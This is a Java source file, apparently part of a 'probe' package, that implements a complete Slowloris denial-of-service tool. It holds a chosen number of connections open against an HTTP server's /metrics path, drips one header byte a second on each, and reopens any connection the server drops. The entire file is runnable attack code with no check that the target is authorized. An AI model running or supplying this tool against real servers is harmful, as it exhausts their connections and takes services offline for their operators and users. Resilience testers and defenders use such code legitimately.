package dev.sshpulse.probe;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;

/**
 * Holds so many connections to an HTTP server, on each of which it sends a header that never ends,
 * a byte a second; what the server closes, it opens again. Ends with its standard input.
 */
public final class Slowloris {

  private static final int A_SECOND_MILLIS = 1_000;

  private final InetSocketAddress server;
  private final List<SocketChannel> held = new ArrayList<>();
  private long opened;

  private Slowloris(InetSocketAddress server) {
    this.server = server;
  }

  /** Host, port and how many. */
  public static void main(String[] arguments) throws Exception {
    Slowloris slowloris =
        new Slowloris(new InetSocketAddress(arguments[0], Integer.parseInt(arguments[1])));
    int connections = Integer.parseInt(arguments[2]);
    boolean said = false;
    while (System.in.available() == 0) {
      slowloris.hold(connections);
      if (!said) {
        System.out.println("holding on");
        said = true;
      }
      Thread.sleep(A_SECOND_MILLIS);
    }
    System.out.println("opened " + slowloris.opened);
  }

  private void hold(int connections) throws IOException {
    held.removeIf(connection -> !isFed(connection));
    while (held.size() < connections) {
      SocketChannel connection = SocketChannel.open(server);
      connection.configureBlocking(false);
      connection.write(bytes("GET /metrics HTTP/1.1\r\nX: "));
      held.add(connection);
      opened++;
    }
  }

  /** One more byte, unless the server has had enough. */
  private static boolean isFed(SocketChannel connection) {
    try {
      ByteBuffer answer = ByteBuffer.allocate(1_000);
      int read = connection.read(answer);
      connection.write(bytes("x"));
      if (read != 0) {
        connection.close();
      }
      return read == 0;
    } catch (IOException closed) {
      closeQuietly(connection);
      return false;
    }
  }

  private static void closeQuietly(SocketChannel connection) {
    try {
      connection.close();
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  private static ByteBuffer bytes(String text) {
    return ByteBuffer.wrap(text.getBytes(US_ASCII));
  }
}
